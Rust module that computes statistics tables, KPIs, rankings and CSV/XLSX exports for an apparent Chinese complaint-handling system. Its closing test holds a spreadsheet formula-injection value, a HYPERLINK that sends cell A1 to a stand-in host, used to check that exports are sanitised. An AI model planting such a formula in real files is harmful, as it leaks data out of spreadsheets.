//! Statistics tables: counters rolled up from the `stats` column family,
//! the clock-dependent "open past due" count from the case summaries, KPIs
//! with the plan's targets beside them, and rankings. Context by the API (JSON
//! and CSV) and the monthly reports.

use std::collections::{BTreeMap, HashMap};

use serde_json::{Value, json};
use zongzhi_protocol::kpi::{self, Counter, Figures, Kpi};
use zongzhi_protocol::policy::PolicySet;
use zongzhi_protocol::trust::Trust;
use zongzhi_protocol::workflow::DeadlineKind;
use zongzhi_protocol::{DivisionCode, Level};

use crate::stats::{self, By};
use crate::store::{Result, Store};

#[derive(Debug, Clone)]
pub struct Query {
    pub scope: DivisionCode,
    pub period: String,
    pub months: Vec<u32>,
    /// The period 越级 is compared with (the plan: down at least 50 %);
    /// `None`: the same months a year earlier.
    pub baseline: Option<(String, Vec<u32>)>,
    pub by: By,
    /// KPIs shown; the first ranks the rows.
    pub kpis: Vec<Kpi>,
    /// Rows returned, in rank order: skip `offset`, at most `limit` (all
    /// when `None`). A city's table by unit has 3,000 rows; the console
    /// shows them a page at a time, the CSV export has them all.
    pub offset: usize,
    pub limit: Option<usize>,
}

/// The group an open clock's case counts in, by its owner.
fn group_of(by: By, e: &crate::index::ClockEntry) -> Option<String> {
    let unit = e.owner;
    Some(match by {
        By::Unit => unit.to_string(),
        By::Level => unit.level().as_str().to_string(),
        By::Subtree(level) => unit.lineage().into_iter().find(|u| u.level() == level)?.to_string(),
        By::Category => e.category.clone(),
        By::Channel => zongzhi_protocol::case::Channel::ALL.get(e.channel as usize)?.as_str().to_string(),
        // Counted by the case's unit, not by window or person.
        By::Window | By::Person => return None,
    })
}

/// Per group and in total: open cases in `scope` whose resolution (or
/// re-handling) clock ran out before `now` with the due month in `months`
/// (from the clock index: only clocks due in the period are read); and
/// cases filed in scope in `months` that repeat an earlier complaint (the
/// repeat counters, settled at write time).
struct QueryTime {
    overdue: HashMap<String, i64>,
    overdue_total: i64,
    repeats: HashMap<String, i64>,
    repeats_total: i64,
}

/// Unix ms of the first instant of a month (YYYYMM), China time.
fn month_start_ms(month: u32) -> Option<u64> {
    let (y, m) = ((month / 100) as i16, (month % 100) as i8);
    let z = jiff::civil::date(y, m, 1).to_zoned(jiff::tz::TimeZone::fixed(jiff::tz::offset(8))).ok()?;
    u64::try_from(z.timestamp().as_millisecond()).ok()
}

fn next_month(month: u32) -> u32 {
    if month % 100 >= 12 { (month / 100 + 1) * 100 + 1 } else { month + 1 }
}

fn query_time(store: &Store, q: &Query, now: u64) -> Result<QueryTime> {
    let mut per: HashMap<String, i64> = HashMap::new();
    let mut total = 0;
    let from = q.months.iter().min().and_then(|m| month_start_ms(*m)).unwrap_or(0);
    let to = q.months.iter().max().and_then(|m| month_start_ms(next_month(*m))).unwrap_or(u64::MAX).min(now);
    let mut seen = std::collections::HashSet::new();
    crate::index::clocks_due(store, crate::index::EVERY, from, to, |e| {
        let counts = matches!(e.kind, DeadlineKind::Resolution | DeadlineKind::Rehandle)
            && e.status().is_some_and(|s| s.is_open())
            && q.scope.contains(e.owner)
            && kpi::month_of(e.due_ms).is_some_and(|m| q.months.contains(&m));
        if counts && seen.insert(e.case) {
            total += 1;
            if let Some(g) = group_of(q.by, &e) {
                *per.entry(g).or_default() += 1;
            }
        }
        true
    })?;
    let mut repeats: HashMap<String, i64> = HashMap::new();
    let mut repeats_total = 0;
    for (g, c) in stats::rollup_tagged(store, q.scope, &q.months, q.by, stats::REPEAT_TAGS)? {
        if c[0] != 0 {
            repeats.insert(g, c[0]);
        }
    }
    for c in stats::rollup_tagged(store, q.scope, &q.months, By::Subtree(q.scope.level()), stats::REPEAT_TAGS)?.values() {
        repeats_total += c[0];
    }
    Ok(QueryTime { overdue: per, overdue_total: total, repeats, repeats_total })
}

fn kpi_json(k: Kpi, f: &Figures, level: Level) -> Value {
    let value = k.value(f);
    let target = k.target(level);
    let meets = match (value, target) {
        (Some(v), Some(t)) => Some(if t.at_least { v + 1e-9 >= t.value } else { v <= t.value + 1e-9 }),
        _ => None,
    };
    json!({"value": value, "target": target, "meets": meets})
}

fn counts_json(f: &Figures) -> Value {
    let mut m = serde_json::Map::new();
    for c in Counter::ALL {
        m.insert(c.as_str().into(), json!(f.get(*c)));
    }
    m.insert("open_overdue".into(), json!(f.open_overdue));
    m.insert("repeats".into(), json!(f.repeats));
    Value::Object(m)
}

/// Names of the units this node knows (from their certificates).
fn unit_names(trust: &Trust) -> HashMap<String, String> {
    trust.members().map(|m| (m.cert.division.to_string(), m.cert.name.clone())).collect()
}

/// 越级 as the tables state it.
pub const SKIP_LEVEL_DEFINITION: &str = "越级：在发生地以上的中心受理、且发生地此前没有同一诉求人同一小类案件的事项，计入发生地；与基期（默认上年同期）比较，规划目标为下降50%";

/// The statistics table for a query, as JSON.
/// `policies`: every version held, to fold cases for the tables by window
/// and by person.
pub fn table(store: &Store, trust: &Trust, policy: &zongzhi_protocol::Policy, policies: &PolicySet, q: &Query, now: u64) -> Result<Value> {
    let actors = matches!(q.by, By::Window | By::Person);
    let (groups, totals) = if actors {
        // By window or person: the counters attributed to them (受理, 办结,
        // on time, ratings), their total the sum of the rows.
        let from = q.months.iter().min().and_then(|m| month_start_ms(*m)).unwrap_or(0);
        let to = q.months.iter().max().and_then(|m| month_start_ms(next_month(*m))).unwrap_or(u64::MAX);
        let groups = stats::rollup_actors(store, policies, trust, q.scope, &q.months, (from, to), q.by)?;
        let mut total = [0; kpi::COUNTERS];
        for c in groups.values() {
            for (a, b) in total.iter_mut().zip(c) {
                *a += b;
            }
        }
        (groups, BTreeMap::from([(String::new(), total)]))
    } else {
        (stats::rollup(store, q.scope, &q.months, q.by)?, stats::rollup(store, q.scope, &q.months, By::Subtree(q.scope.level()))?)
    };
    // 越级 beside its baseline period.
    let (baseline_period, baseline_months) = match &q.baseline {
        Some((p, m)) => (p.clone(), m.clone()),
        None => {
            let months: Vec<u32> = q.months.iter().map(|m| m - 100).collect();
            let period = match q.period.split_once('-') {
                Some((y, rest)) => format!("{}-{rest}", y.parse::<u32>().map(|y| y - 1).unwrap_or(0)),
                None => q.period.parse::<u32>().map(|y| (y - 1).to_string()).unwrap_or_default(),
            };
            (period, months)
        }
    };
    let base_groups = stats::rollup(store, q.scope, &baseline_months, q.by)?;
    let base_total: i64 = stats::rollup(store, q.scope, &baseline_months, By::Subtree(q.scope.level()))?.values().map(|c| c[Counter::SkipLevel as usize]).sum();
    let skip_json = |now: i64, base: i64| {
        let change = (base > 0).then(|| (now - base) as f64 / base as f64);
        json!({"count": now, "baseline": base, "change": change, "target": -0.5, "meets": change.map(|c| c <= -0.5 + 1e-9)})
    };
    // Open past-due and repeat cases are counted by unit, not by window or person.
    let qt = if actors { QueryTime { overdue: HashMap::new(), overdue_total: 0, repeats: HashMap::new(), repeats_total: 0 } } else { query_time(store, q, now)? };
    let names = unit_names(trust);
    let rows = group_rows(&groups, &qt);
    let total = total_figures(&totals, &qt);
    // Rank by the first KPI (best first; rows without a value last).
    let rank_by = q.kpis.first().copied();
    let order = rank_order(&rows, rank_by);
    let rank = ranks(&rows, &order, rank_by);
    let row_json = |g: &str, f: &Figures, rank: Option<usize>| {
        let level = g.parse::<DivisionCode>().map(|d| d.level()).unwrap_or(q.scope.level());
        let base = base_groups.get(g).map_or(0, |c| c[Counter::SkipLevel as usize]);
        json!({
            "group": g, "name": group_name(q.by, g, &names, policy), "counts": counts_json(f), "kpis": kpis_json(&q.kpis, f, level), "rank": rank,
            "skip_level": skip_json(f.get(Counter::SkipLevel), base),
        })
    };
    let shown = order.iter().skip(q.offset).take(q.limit.unwrap_or(usize::MAX));
    let out_rows: Vec<Value> = shown.map(|i| row_json(&rows[*i].0, &rows[*i].1, rank.get(i).copied())).collect();
    Ok(json!({
        "scope": q.scope.to_string(),
        "scope_name": names.get(&q.scope.to_string()).cloned().unwrap_or_default(),
        "period": q.period,
        "months": q.months,
        "by": by_name(q.by),
        "ranked_by": rank_by.map(|k| k.as_str()),
        "definitions": q.kpis.iter().map(|k| json!({"kpi": k.as_str(), "name": k.zh(), "definition": k.definition(), "definition_zh": k.definition_zh()})).collect::<Vec<_>>(),
        "skip_level_definition": SKIP_LEVEL_DEFINITION,
        "rows": out_rows,
        "rows_total": rows.len(),
        "offset": q.offset,
        "baseline_period": baseline_period,
        "total": {"counts": counts_json(&total), "kpis": kpis_json(&q.kpis, &total, q.scope.level()), "skip_level": skip_json(total.get(Counter::SkipLevel), base_total)},
    }))
}

/// The table's rows before ranking, in group order: every group with counters, open past-due or repeat cases.
fn group_rows(groups: &BTreeMap<String, kpi::Counts>, qt: &QueryTime) -> Vec<(String, Figures)> {
    let mut keys: Vec<String> = groups.keys().cloned().collect();
    for g in qt.overdue.keys().chain(qt.repeats.keys()) {
        if !groups.contains_key(g) && !keys.contains(g) {
            keys.push(g.clone());
        }
    }
    keys.sort();
    let mut rows: Vec<(String, Figures)> = Vec::new();
    for g in keys {
        let mut f = Figures::default();
        if let Some(c) = groups.get(&g) {
            f.add(c);
        }
        f.open_overdue = qt.overdue.get(&g).copied().unwrap_or(0);
        f.repeats = qt.repeats.get(&g).copied().unwrap_or(0);
        rows.push((g, f));
    }
    rows
}

/// The table's total row: the whole scope's counters, open past-due and repeat cases.
fn total_figures(totals: &BTreeMap<String, kpi::Counts>, qt: &QueryTime) -> Figures {
    let mut total = Figures::default();
    for c in totals.values() {
        total.add(c);
    }
    total.open_overdue = qt.overdue_total;
    total.repeats = qt.repeats_total;
    total
}

/// Indexes of `rows` in rank order by `rank_by`: best first, rows without a value last (group order when `None`).
fn rank_order(rows: &[(String, Figures)], rank_by: Option<Kpi>) -> Vec<usize> {
    let mut order: Vec<usize> = (0..rows.len()).collect();
    if let Some(k) = rank_by {
        let better_high = !matches!(k, Kpi::OverdueRate | Kpi::AvgHandlingDays | Kpi::RepeatRate);
        order.sort_by(|a, b| {
            let (va, vb) = (k.value(&rows[*a].1), k.value(&rows[*b].1));
            match (va, vb) {
                (Some(x), Some(y)) => {
                    let o = x.partial_cmp(&y).unwrap_or(std::cmp::Ordering::Equal);
                    if better_high { o.reverse() } else { o }
                }
                (Some(_), None) => std::cmp::Ordering::Less,
                (None, Some(_)) => std::cmp::Ordering::Greater,
                (None, None) => std::cmp::Ordering::Equal,
            }
        });
    }
    order
}

/// The rank (from 1) of each row, by index, that has a value of the ranking KPI.
fn ranks(rows: &[(String, Figures)], order: &[usize], rank_by: Option<Kpi>) -> BTreeMap<usize, usize> {
    let mut rank: BTreeMap<usize, usize> = BTreeMap::new();
    for (pos, i) in order.iter().enumerate() {
        if rank_by.is_some_and(|k| k.value(&rows[*i].1).is_some()) {
            rank.insert(*i, pos + 1);
        }
    }
    rank
}

/// The display name of group `g`: the unit's, the level's, the category's or the channel's (empty when unknown).
fn group_name(by: By, g: &str, names: &HashMap<String, String>, policy: &zongzhi_protocol::Policy) -> String {
    match by {
        By::Unit | By::Subtree(_) => names.get(g).cloned().unwrap_or_default(),
        By::Level => ["city", "county", "township", "village"]
            .iter()
            .zip([Level::City, Level::County, Level::Township, Level::Village])
            .find(|(s, _)| **s == g)
            .map(|(_, l)| l.zh().to_string())
            .unwrap_or_default(),
        By::Category => policy.subcategory(g).map(|(_, leaf)| leaf.name.clone()).unwrap_or_default(),
        By::Channel => zongzhi_protocol::case::Channel::parse(g).map(|c| c.zh().to_string()).unwrap_or_default(),
        By::Window => policy.window(g).map(|w| w.name.clone()).unwrap_or_default(),
        // The account's display name is filled in by the API (it holds the accounts).
        By::Person => g.split_once(':').map(|(_, user)| user.to_string()).unwrap_or_default(),
    }
}

/// The KPIs shown, by name, for figures `f` of a group at `level`.
fn kpis_json(kpis: &[Kpi], f: &Figures, level: Level) -> serde_json::Map<String, Value> {
    kpis.iter().map(|k| (k.as_str().to_string(), kpi_json(*k, f, level))).collect()
}

/// The grouping's name in the table (`by`).
fn by_name(by: By) -> &'static str {
    match by {
        By::Unit => "unit",
        By::Level => "level",
        By::Subtree(Level::County) => "county",
        By::Subtree(Level::Township) => "township",
        By::Subtree(_) => "village",
        By::Category => "category",
        By::Channel => "channel",
        By::Window => "window",
        By::Person => "person",
    }
}

/// The table as CSV (written by the `csv` crate): one row per group,
/// counters then KPIs (value and target). A text cell that a spreadsheet
/// would take for a formula (a unit's official name beginning with `=`,
/// say) is written with a leading `'` ([`crate::export::csv_cell`]).
pub fn to_csv(t: &Value, kpis: &[Kpi]) -> String {
    let header: Vec<String> = columns(kpis).into_iter().map(|(en, _)| en).collect();
    let line = |group: &str, name: &str, rank: &Value, row: &Value| -> Vec<String> {
        let mut cells = vec![group.to_string(), name.to_string(), rank.as_u64().map(|r| r.to_string()).unwrap_or_default()];
        for c in Counter::ALL {
            cells.push(row["counts"][c.as_str()].to_string());
        }
        cells.push(row["counts"]["open_overdue"].to_string());
        cells.push(row["counts"]["repeats"].to_string());
        for k in kpis {
            let v = &row["kpis"][k.as_str()];
            cells.push(v["value"].as_f64().map(|x| format!("{x:.4}")).unwrap_or_default());
            cells.push(v["target"]["value"].as_f64().map(|x| format!("{x:.4}")).unwrap_or_default());
        }
        cells
    };
    let mut rows = vec![header];
    for r in t["rows"].as_array().into_iter().flatten() {
        rows.push(line(r["group"].as_str().unwrap_or(""), r["name"].as_str().unwrap_or(""), &r["rank"], r));
    }
    rows.push(line("total", t["scope_name"].as_str().unwrap_or(""), &Value::Null, &t["total"]));
    let mut w = csv::Writer::from_writer(Vec::new());
    for row in rows {
        // Writing to memory cannot fail.
        let _ = w.write_record(row.iter().map(|c| crate::export::csv_cell(c).into_owned()));
    }
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// The table's columns as [`to_csv`] names them and their Chinese headers.
pub fn columns(kpis: &[Kpi]) -> Vec<(String, String)> {
    let mut cols: Vec<(String, String)> = vec![("group".into(), "代码".into()), ("name".into(), "名称".into()), ("rank".into(), "排名".into())];
    cols.extend(Counter::ALL.iter().map(|c| (c.as_str().to_string(), c.zh().to_string())));
    cols.push(("open_overdue".into(), "超期未结".into()));
    cols.push(("repeats".into(), "重复诉求".into()));
    for k in kpis {
        cols.push((k.as_str().into(), k.zh().into()));
        cols.push((format!("{}_target", k.as_str()), format!("{}目标", k.zh())));
    }
    cols
}

/// The table as an XLSX workbook: the columns of [`to_csv`] under Chinese
/// headers, one row per group and the total last; counters, ranks and KPI
/// values (unrounded) as numbers, an empty cell where a KPI has no value.
pub fn to_xlsx(t: &Value, kpis: &[Kpi]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    ws.set_name("统计")?;
    let bold = Format::new().set_bold();
    for (col, (_, zh)) in columns(kpis).iter().enumerate() {
        ws.write_string_with_format(0, col as u16, zh, &bold)?;
    }
    ws.set_freeze_panes(1, 0)?;
    ws.set_column_width(1, 30)?;
    let total = [("total", t["scope_name"].as_str().unwrap_or(""), &Value::Null, &t["total"])];
    let rows = t["rows"].as_array().into_iter().flatten().map(|r| (r["group"].as_str().unwrap_or(""), r["name"].as_str().unwrap_or(""), &r["rank"], r));
    for (i, (group, name, rank, row)) in rows.chain(total).enumerate() {
        let r = i as u32 + 1;
        ws.write_string(r, 0, group)?;
        ws.write_string(r, 1, name)?;
        let mut numbers: Vec<Option<f64>> = vec![rank.as_f64()];
        numbers.extend(Counter::ALL.iter().map(|c| row["counts"][c.as_str()].as_f64()));
        numbers.push(row["counts"]["open_overdue"].as_f64());
        numbers.push(row["counts"]["repeats"].as_f64());
        for k in kpis {
            let v = &row["kpis"][k.as_str()];
            numbers.push(v["value"].as_f64());
            numbers.push(v["target"]["value"].as_f64());
        }
        for (j, n) in numbers.into_iter().enumerate() {
            if let Some(n) = n {
                ws.write_number(r, j as u16 + 2, n)?;
            }
        }
    }
    wb.save_to_buffer()
}

/// A unit's own counters for one month (all categories and channels).
pub fn own_counts(store: &Store, unit: DivisionCode, month: u32) -> Result<kpi::Counts> {
    let mut c = [0i64; kpi::COUNTERS];
    let tag = stats::TOTAL_TAGS + stats::OWN;
    let from = stats::key(month, tag, unit.as_u64(), 0, "");
    let to = stats::key(month, tag, unit.as_u64() + 1, 0, "");
    store.scan_stats(&from, &to, |_, v| {
        for (a, b) in c.iter_mut().zip(stats::decode(v)) {
            *a += b;
        }
    })?;
    Ok(c)
}

/// Every report in `scope` for `months` (the newest per unit and month),
/// each compared with the figures recomputed from the events this node holds.
pub fn check(store: &Store, trust: &Trust, scope: DivisionCode, months: &[u32]) -> Result<Value> {
    let names = unit_names(trust);
    let mut reports = Vec::new();
    let mut flagged = 0usize;
    for &month in months {
        // Per unit, in the order they were signed (by their signing time:
        // a center re-keyed after losing its machine reports under a new
        // key, whose chain numbers start again): the last is the newest,
        // the earlier ones are listed with it as superseded.
        let mut by_unit: BTreeMap<u64, Vec<(zongzhi_protocol::Hlc, zongzhi_protocol::RecordId)>> = BTreeMap::new();
        for (unit, id) in store.reports(month, scope.subtree_range())? {
            let hlc = store.record_bytes(&id)?.and_then(|b| zongzhi_protocol::Record::decode_unverified(&b).ok()).map(|r| r.header.hlc).unwrap_or_default();
            by_unit.entry(unit).or_default().push((hlc, id));
        }
        for mut signed in by_unit.into_values() {
            signed.sort();
            let mut ids: Vec<zongzhi_protocol::RecordId> = signed.into_iter().map(|(_, id)| id).collect();
            let Some(id) = ids.pop() else { continue };
            let mut superseded = Vec::new();
            for old in ids.iter().rev() {
                let Some(bytes) = store.record_bytes(old)? else { continue };
                let Ok(rec) = zongzhi_protocol::Record::decode_unverified(&bytes) else { continue };
                let zongzhi_protocol::Body::Report(r) = &rec.body else { continue };
                superseded.push(json!({
                    "record": old.to_string(),
                    "signed_at": zongzhi_protocol::policy::format_china(rec.header.hlc.wall_ms),
                    "reported": counts_map(&r.figures()),
                    "reason": r.reason,
                }));
            }
            let Some(bytes) = store.record_bytes(&id)? else { continue };
            let Ok(record) = zongzhi_protocol::Record::decode_unverified(&bytes) else { continue };
            let zongzhi_protocol::Body::Report(r) = &record.body else { continue };
            let recomputed = own_counts(store, r.unit, r.month)?;
            let discrepancies = kpi::check_report(r, &recomputed);
            flagged += discrepancies.len();
            reports.push(json!({
                "unit": r.unit.to_string(),
                "name": names.get(&r.unit.to_string()).cloned().unwrap_or_default(),
                "month": r.month,
                "period": r.period(),
                "record": id.to_string(),
                "supersedes": r.supersedes.map(|s| s.to_string()),
                "reason": r.reason,
                "superseded": superseded,
                "signed_at": zongzhi_protocol::policy::format_china(record.header.hlc.wall_ms),
                "definitions": r.definitions,
                "reported": counts_map(&r.figures()),
                "ratings": rating_shares(&r.figures()),
                "ok": discrepancies.is_empty(),
                "discrepancies": discrepancies,
            }));
        }
    }
    Ok(json!({"scope": scope.to_string(), "months": months, "reports": reports, "discrepancies": flagged}))
}

/// How a report's ratings split: given by citizens on the public page, or
/// entered by staff (the satisfaction target counts citizens' only).
fn rating_shares(c: &kpi::Counts) -> Value {
    let (all, citizen) = (c[Counter::Rated as usize], c[Counter::CitizenRated as usize]);
    let share = |n: i64| (all > 0).then(|| n as f64 / all as f64);
    json!({"rated": all, "citizen": citizen, "staff": all - citizen, "citizen_share": share(citizen), "staff_share": share(all - citizen)})
}

fn counts_map(c: &kpi::Counts) -> Value {
    Value::Object(Counter::ALL.iter().filter(|k| c[**k as usize] != 0).map(|k| (k.as_str().to_string(), json!(c[*k as usize]))).collect())
}

/// Meta key marking that this node signed its report for `month`.
pub fn signed_marker(month: u32) -> String {
    format!("report_signed/{month}")
}

/// The month before the one `now` falls in, once the policy's grace period
/// after its close has passed, if this node has not signed it yet.
pub fn report_due(store: &Store, policy: &zongzhi_protocol::Policy, now: u64) -> Result<Option<u32>> {
    let grace = policy.report_grace_minutes as u64 * 60_000;
    let Some(month_now) = kpi::month_of(now) else { return Ok(None) };
    // The month `grace` ago must already be the current month, i.e. the
    // previous month closed at least `grace` ago.
    if kpi::month_of(now.saturating_sub(grace)) != Some(month_now) {
        return Ok(None);
    }
    let prev = if month_now % 100 == 1 { (month_now / 100 - 1) * 100 + 12 } else { month_now - 1 };
    Ok(store.meta_get(&signed_marker(prev))?.is_none().then_some(prev))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A unit's official name comes from its enrollment request: one that
    /// a spreadsheet would run as a formula is exported as text, and every
    /// cell round-trips through a CSV reader.
    #[test]
    fn a_name_that_looks_like_a_formula_is_exported_as_text() {
        let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")";
        let row = |group: &str, name: &str| json!({"group": group, "name": name, "rank": 1, "counts": {}, "kpis": {}});
        let t = json!({"rows": [row("330106010001", evil), row("330106010002", "+1, \"quoted\"\nline")], "scope_name": "@total", "total": {"counts": {}, "kpis": {}}});
        let text = to_csv(&t, &[Kpi::Satisfaction]);
        let rows: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes()).records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
        assert_eq!(rows.len(), 3, "{text}");
        assert_eq!(rows[0][1], format!("'{evil}"));
        assert_eq!(rows[1][1], "'+1, \"quoted\"\nline");
        assert_eq!((rows[2][0].as_str(), rows[2][1].as_str()), ("total", "'@total"));
        assert!(rows.iter().all(|r| !r.iter().any(|c| c.starts_with(['=', '+', '-', '@']))), "{text}");
    }
}
